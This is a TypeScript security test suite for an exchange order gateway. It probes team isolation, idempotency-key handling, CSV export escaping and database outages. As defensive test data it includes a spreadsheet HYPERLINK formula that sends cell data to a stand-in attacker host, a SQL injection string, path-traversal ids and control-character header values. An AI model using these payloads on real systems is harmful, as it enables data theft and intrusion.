import { connect } from 'node:net';

import { StallProxy } from './support/stall-proxy.js';
import { limit, post, startExchangeStack } from './support/exchange-stack.js';
import {
  OTHER_PARTICIPANT,
  PARTICIPANT,
  type Json,
  type Stack,
  api,
  eventually,
  journalThrough,
  json,
} from './support/stack.js';

// The order-safety routes (issues 26, 27) probed the way another team, a hostile client or a dead
// database would meet them: what a key may read, what hostile input costs, what a refusal looks like.

const TRADER = { id: 'trader', team: 'trading', scopes: ['read:orders' as const, 'write:orders' as const] };
const TRADER2 = { ...TRADER, id: 'trader2' };
const VICTIM = { id: 'victim', team: 'platform', scopes: ['read:orders' as const, 'write:orders' as const] };
/** Two teams on participants of their own (the other clients share both). */
const ALICE = { ...TRADER, id: 'alice-bot', participants: [PARTICIPANT] };
const BOB = { ...VICTIM, id: 'bob-bot', participants: [OTHER_PARTICIPANT] };

const inserts = (stack: Stack) => stack.sandbox.state.counter('exchange.calls.insertOrder');
const cancels = (stack: Stack) => stack.sandbox.state.counter('exchange.calls.cancelOrder');

/** One request written byte for byte on a socket (Node's client refuses control characters in a header). */
function rawSocket(stack: Stack, head: string, body = ''): Promise<{ status: number; text: string }> {
  const { hostname, port } = new URL(stack.url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => {
      socket.end(Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(body)]));
    });
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('latin1');
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), text });
    });
  });
}

function insertHead(stack: Stack, clientId: string, body: string, extraHeaderLines: string): string {
  return (
    `POST /exchange/v1/trading/orders HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n` +
    `authorization: Bearer ${stack.keys[clientId]}\r\ncontent-type: application/json\r\n` +
    `content-length: ${Buffer.byteLength(body)}\r\n${extraHeaderLines}\r\n`
  );
}

describe('order safety, red team', () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startExchangeStack([TRADER, TRADER2, VICTIM, ALICE, BOB]);
  });
  afterAll(() => stack.close());

  it("keeps another team's records out of an order's timeline when both teams used the same clordId", async () => {
    // The attacker sends (and cancels) an order under a clordId it guesses the victim team will use.
    const bait = await post(
      stack,
      '/exchange/v1/trading/orders',
      limit('SIDE_BUY', 1, 11, { clordId: 'desk-0001' }),
      'trader',
    );
    expect(bait.status).toBe(200);
    const baitOrder = (await json(bait)).orderId as string;
    expect((await post(stack, '/exchange/v1/trading/orders/cancel', { orderId: baitOrder }, 'trader')).status).toBe(
      200,
    );
    // The exchange takes a closed order's clordId again: the victim team's order.
    const placed = await post(
      stack,
      '/exchange/v1/trading/orders',
      limit('SIDE_BUY', 7, 13, { clordId: 'desk-0001' }),
      'victim',
    );
    expect(placed.status).toBe(200);
    const victimOrder = (await json(placed)).orderId as string;

    /** The other side's records: its team, its client, or the stream's events of its order. */
    const foreign = (records: Json[], client: string, team: string, orderId: string) =>
      records.filter((r: Json) => r.team === team || r.clientId === client || r.orderId === orderId);
    const attacker = await api(stack, 'trader')('/orders/timeline?clordId=desk-0001');
    const seen: Json[] = attacker.status === 200 ? (await json(attacker)).records : [];
    expect(foreign(seen, 'victim', 'platform', victimOrder)).toEqual([]);
    expect(JSON.stringify(seen)).not.toContain(victimOrder);
    const victim = await api(stack, 'victim')('/orders/timeline?clordId=desk-0001');
    expect(victim.status).toBe(200);
    const own: Json[] = (await json(victim)).records;
    expect(own.some((r: Json) => r.orderId === victimOrder)).toBe(true);
    expect(foreign(own, 'trader', 'trading', baitOrder)).toEqual([]);
    // By the victim's order id, the attacker's records (same clordId) stay out too, and the attacker reads nothing.
    const byOrder: Json[] = (await json(await api(stack, 'victim')(`/orders/timeline?orderId=${victimOrder}`))).records;
    expect(foreign(byOrder, 'trader', 'trading', baitOrder)).toEqual([]);
    expect((await api(stack, 'trader')(`/orders/timeline?orderId=${victimOrder}`)).status).toBe(404);
    // Admin reads the victim's order without the attacker's records, and both teams' records of the clordId.
    const adminByOrder: Json[] = (await json(await api(stack)(`/orders/timeline?orderId=${victimOrder}`))).records;
    expect(foreign(adminByOrder, 'trader', 'trading', baitOrder)).toEqual([]);
    const admin: Json[] = (await json(await api(stack)('/orders/timeline?clordId=desk-0001'))).records;
    expect(new Set(admin.map((r: Json) => r.team).filter(Boolean))).toEqual(new Set(['trading', 'platform']));
  });

  // A refused call naming another team's order id is journaled under the caller's team; the lookup by
  // clordId followed the clordId to its order id and answered the caller's own records naming that id:
  // a 200 that confirmed the other team's clordId and gave away its order id.
  it("never confirms another team's clordId through the caller's own records naming its order id", async () => {
    const placed = await post(
      stack,
      '/exchange/v1/trading/orders',
      limit('SIDE_BUY', 1, 12, { clordId: 'alice-c1' }),
      'alice-bot',
    );
    expect(placed.status).toBe(200);
    const orderId = (await json(placed)).orderId as string;
    const replace = { requests: [{ orderId, orderQty: '5', price: '42' }] };
    expect((await post(stack, '/exchange/v1/trading/orders/replace/list', replace, 'bob-bot')).status).toBe(404);
    expect((await api(stack, 'bob-bot')('/orders/timeline?clordId=alice-c1')).status).toBe(404);
    expect((await api(stack, 'bob-bot')(`/orders/timeline?orderId=${orderId}`)).status).toBe(404);
    // The order's own team reads its timeline, and the admin reads every record of the clordId.
    const own: Json[] = (await json(await api(stack, 'alice-bot')('/orders/timeline?clordId=alice-c1'))).records;
    expect(own.length).toBeGreaterThan(0);
    expect(own.every((record) => record.team === undefined || record.team === 'trading')).toBe(true);
    const admin: Json[] = (await json(await api(stack)('/orders/timeline?clordId=alice-c1'))).records;
    expect(admin.some((record) => record.team === 'platform')).toBe(true);
  });

  it('refuses an inverted or malformed export range 400 naming the field', async () => {
    const inverted = await api(stack)('/admin/journal/export?from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z');
    expect(inverted.status).toBe(400);
    expect(inverted.headers.get('content-type')).toContain('application/problem+json');
    expect(JSON.stringify(await json(inverted))).toContain('to');
    const garbage = await api(stack)('/admin/journal/export?from=yesterday&to=%00');
    expect(garbage.status).toBe(400);
    expect(garbage.headers.get('content-type')).toContain('application/problem+json');
    // Not admin: refused before anything is read.
    expect(
      (await api(stack, 'trader')('/admin/journal/export?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z')).status,
    ).toBe(403);
    // The widest range streams (page by page) rather than failing.
    const wide = await api(stack)('/admin/journal/export?from=1970-01-01T00:00:00Z&to=9999-12-31T23:59:59Z');
    expect(wide.status).toBe(200);
    expect((await wide.text()).length).toBeGreaterThan(0);
  });

  it("writes a client's formula-like clordId into the CSV export as text, never as a formula", async () => {
    const from = new Date(Date.now() - 1_000).toISOString();
    const clordId = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    expect(
      (await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 1, 18, { clordId }), 'trader')).status,
    ).toBe(200);
    expect(
      (await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 1, 18, { clordId: '@SUM(1+1)' }), 'trader'))
        .status,
    ).toBe(200);
    const to = new Date(Date.now() + 1_000).toISOString();
    const csv = await (await api(stack)(`/admin/journal/export?from=${from}&to=${to}&format=csv`)).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(csv).toContain(`,'@SUM(1+1),`);
    // No cell (quoted or not) starts with a formula character.
    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
  });

  it('refuses a hostile Idempotency-Key 400 naming the header, before any budget is spent', async () => {
    const before = inserts(stack);
    const order = JSON.stringify(limit('SIDE_BUY', 1, 12));
    const cases: Record<string, string> = {
      'too long': `idempotency-key: ${'k'.repeat(256)}\r\n`,
      'control character': 'idempotency-key: a\x01b\r\n',
      'non-ASCII bytes': 'idempotency-key: cl\xe9\r\n',
      repeated: 'idempotency-key: k-rep\r\nidempotency-key: k-rep\r\n',
      empty: 'idempotency-key: \r\n',
      // Accepted once, an order whose outcome GET /orders/key/<key> could never read back.
      'a dot segment': 'idempotency-key: ..\r\n',
      'a dot segment among slashes': 'idempotency-key: a/../b\r\n',
      'a bare quote in a quoted key': 'idempotency-key: "a"b"\r\n',
      // The form of the key an insert sent without one gets from its clordId: another clordId's.
      "another clordId's key": `idempotency-key: clordId:${PARTICIPANT}:not-this-one\r\n`,
    };
    for (const [name, line] of Object.entries(cases)) {
      const res = await rawSocket(stack, insertHead(stack, 'trader', order, line), order);
      expect({ name, status: res.status }).toEqual({ name, status: 400 });
      expect({ name, problem: /content-type: application\/problem\+json/i.test(res.text) }).toEqual({
        name,
        problem: true,
      });
      if (!['control character'].includes(name))
        expect({ name, names: res.text.includes('idempotency-key') }).toEqual({ name, names: true });
    }
    expect(inserts(stack)).toBe(before);
  });

  it('takes a key as the draft writes it (spaces, a quoted string with escapes), and the key of its own clordId', async () => {
    const before = inserts(stack);
    const keyed = (key: string, price: number, body = limit('SIDE_BUY', 1, price)) =>
      post(stack, '/exchange/v1/trading/orders', body, 'alice-bot', { 'idempotency-key': key });
    // A space is printable ASCII (a probe: refused 400), and a quoted key's escapes are read.
    for (const [first, again] of [
      ['k with spaces', '"k with spaces"'],
      ['"k\\"q\\\\"', 'k"q\\'],
    ]) {
      const placed = await keyed(first!, 15);
      expect({ first, status: placed.status }).toEqual({ first, status: 200 });
      const replayed = await keyed(again!, 15);
      expect({ again, status: replayed.status, replayed: replayed.headers.get('idempotent-replayed') }).toEqual({
        again,
        status: 200,
        replayed: 'true',
      });
      expect(await json(replayed)).toEqual(await json(placed));
    }
    expect(inserts(stack) - before).toBe(2);
    // A key in the gateway's form for another clordId is refused, and holds nothing: that clordId sent
    // without a key is placed (a probe: 409 CLORDID_IN_USE for a clordId never sent).
    const squatting = await keyed(
      `clordId:${PARTICIPANT}:ck-other`,
      16,
      limit('SIDE_BUY', 1, 16, { clordId: 'ck-mine' }),
    );
    expect(squatting.status).toBe(400);
    const other = await post(
      stack,
      '/exchange/v1/trading/orders',
      limit('SIDE_BUY', 1, 16, { clordId: 'ck-other' }),
      'alice-bot',
    );
    expect(other.status).toBe(200);
    // The key its own clordId gives is that key: the insert sent again without one is its replay.
    const own = limit('SIDE_BUY', 1, 16, { clordId: 'ck-own' });
    expect((await keyed(`clordId:${PARTICIPANT}:ck-own`, 16, own)).status).toBe(200);
    const resent = await post(stack, '/exchange/v1/trading/orders', own, 'alice-bot');
    expect(resent.headers.get('idempotent-replayed')).toBe('true');
    expect(inserts(stack) - before).toBe(4);
  });

  it('scopes an Idempotency-Key to its client, and refuses it on another route 422', async () => {
    const before = inserts(stack);
    const a = await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 1, 14), 'trader', {
      'idempotency-key': 'shared-k',
    });
    const b = await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 2, 14), 'trader2', {
      'idempotency-key': 'shared-k',
    });
    expect([a.status, b.status]).toEqual([200, 200]);
    expect(b.headers.get('idempotent-replayed')).toBeNull();
    expect(inserts(stack) - before).toBe(2);
    // Each client reads its own call by the key; no client reads another's.
    expect((await json(await api(stack, 'trader2')('/orders/key/shared-k'))).answer).toEqual(await json(b));
    expect((await api(stack, 'victim')('/orders/key/shared-k')).status).toBe(404);
    // The same key on another route (a cancel) is another request: 422, nothing sent.
    const cancelsBefore = cancels(stack);
    const reused = await post(
      stack,
      '/exchange/v1/trading/orders/cancel',
      { orderId: (await json(a)).orderId },
      'trader',
      {
        'idempotency-key': 'shared-k',
      },
    );
    expect(reused.status).toBe(422);
    expect(await json(reused)).toMatchObject({ code: 'IDEMPOTENCY_KEY_REUSED' });
    expect(cancels(stack)).toBe(cancelsBefore);
    // A key on a read is not an order call: ignored, even a malformed one.
    expect(
      (await api(stack, 'trader')('/exchange/v1/trading/orders/open', { headers: { 'idempotency-key': 'x y' } }))
        .status,
    ).toBe(200);
  });

  it('answers malformed and traversing ids on the lookup routes with a problem, never a 500', async () => {
    const paths = [
      '/orders/clord/..%2F..%2Fadmin%2Frisk',
      `/orders/clord/${'c'.repeat(300)}`,
      '/orders/clord/%E2%80%AE%00',
      '/orders/key/%0A',
      `/orders/key/${'k'.repeat(300)}`,
      '/orders/timeline?clordId=a&orderId=b',
      '/orders/timeline',
      `/orders/timeline?clordId=${'c'.repeat(300)}`,
      '/orders/timeline?clordId=%25',
      "/orders/timeline?orderId=' OR 1=1 --",
    ];
    for (const path of paths) {
      const res = await api(stack, 'trader')(path);
      expect({ path, status: res.status < 500 && res.status >= 400 }).toEqual({ path, status: true });
      expect({ path, type: res.headers.get('content-type') }).toEqual({
        path,
        type: expect.stringContaining('application/problem+json'),
      });
    }
  });

  it("journals a retail create's whole timeline under its order id, with no secret in it or in the logs", async () => {
    const order = {
      marketSlug: 'aec-nfl-gb-chi-2026-11-22',
      intent: 'ORDER_INTENT_BUY_LONG',
      price: { value: '0.20', currency: 'USD' },
      quantity: 1,
    };
    const from = new Date(Date.now() - 1_000).toISOString();
    const created = await post(stack, '/retail/v1/orders', order, 'victim', { 'idempotency-key': 'k-secret-1' });
    expect(created.status).toBe(200);
    const { id } = await json(created);
    // The order id comes with the answer: the call's received and sent records are its timeline's too.
    const timeline: Json[] = (await json(await api(stack, 'victim')(`/orders/timeline?orderId=${id}`))).records;
    expect(timeline.filter((r) => r.kind !== 'stream').map((r) => r.kind)).toEqual(['received', 'sent', 'answer']);
    expect(timeline[0]).toMatchObject({
      team: 'platform',
      data: { idempotencyKey: 'k-secret-1', operation: 'retail.create' },
    });
    const to = new Date(Date.now() + 1_000).toISOString();
    const exported = await (await api(stack)(`/admin/journal/export?from=${from}&to=${to}`)).text();
    expect(exported).toContain('k-secret-1');
    for (const secret of [stack.keys.victim, stack.keys.all, 'x-pm-signature', 'x-pm-access-key', 'signature'])
      expect(exported.toLowerCase()).not.toContain(secret.toLowerCase());
    expect(stack.logs.join('')).not.toContain(stack.keys.victim);
  });

  it("shows each order of a batch in its team's timeline and lookup", async () => {
    const batch = await post(
      stack,
      '/exchange/v1/trading/orders/list',
      {
        requests: [limit('SIDE_BUY', 1, 15, { clordId: 'batch-a' }), limit('SIDE_BUY', 1, 16, { clordId: 'batch-b' })],
      },
      'victim',
    );
    expect(batch.status).toBe(200);
    expect((await api(stack, 'victim')('/orders/clord/batch-b')).status).toBe(200);
    const timeline = await api(stack, 'victim')('/orders/timeline?clordId=batch-b');
    expect(timeline.status).toBe(200);
    const kinds = ((await json(timeline)).records as Json[]).filter((r) => r.team === 'platform').map((r) => r.kind);
    expect(kinds).toEqual(expect.arrayContaining(['received', 'answer']));
    expect((await api(stack, 'trader')('/orders/timeline?clordId=batch-b')).status).toBe(404);
  });

  it('sends a cancel again while the first cancel under its Idempotency-Key is still in flight (never 409)', async () => {
    const placed = await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 1, 17), 'trader');
    const { orderId } = await json(placed);
    const before = cancels(stack);
    stack.sandbox.state.setFaults({ exchangeDelayMs: { cancelOrder: 1_500 } });
    try {
      const first = post(stack, '/exchange/v1/trading/orders/cancel', { orderId }, 'trader', {
        'idempotency-key': 'k-cancel-flight',
      });
      await eventually(
        async () => cancels(stack),
        (n) => n > before,
      );
      const second = await post(stack, '/exchange/v1/trading/orders/cancel', { orderId }, 'trader', {
        'idempotency-key': 'k-cancel-flight',
      });
      // The exchange answers it (here: already cancelled by the first); the gateway's rule does not stop it.
      expect(await json(second)).not.toMatchObject({ code: 'IDEMPOTENCY_IN_FLIGHT' });
      expect(cancels(stack) - before).toBe(2);
      expect((await first).status).toBe(200);
    } finally {
      stack.sandbox.state.setFaults({ exchangeDelayMs: {} });
    }
  });
});

describe('order safety, red team: journal database unreachable', () => {
  let stack: Stack;
  let proxy: StallProxy;
  beforeAll(async () => {
    proxy = await StallProxy.start(Number(process.env.TEST_PG_PORT));
    const journal = journalThrough(proxy.port, { statementTimeoutMs: 500 });
    stack = await startExchangeStack([TRADER], { gateway: (config) => ({ ...config, journal }) });
  });
  afterAll(async () => {
    await stack.close();
    await proxy.close();
  });

  it('answers the journal routes 503 problem+json while the database is away, never a 500 or a cut stream', async () => {
    proxy.cut();
    const answers: Record<string, string> = {};
    for (const path of [
      '/admin/journal/export?from=2026-01-01T00:00:00Z&to=2030-01-01T00:00:00Z',
      '/orders/timeline?clordId=x',
      '/orders/clord/x',
      '/orders/key/x',
    ]) {
      const res = await api(stack)(path);
      answers[path] = `${res.status} ${res.headers.get('content-type')?.split(';')[0]}`;
    }
    expect(answers).toEqual(
      Object.fromEntries(Object.keys(answers).map((path) => [path, '503 application/problem+json'])),
    );
  });
});
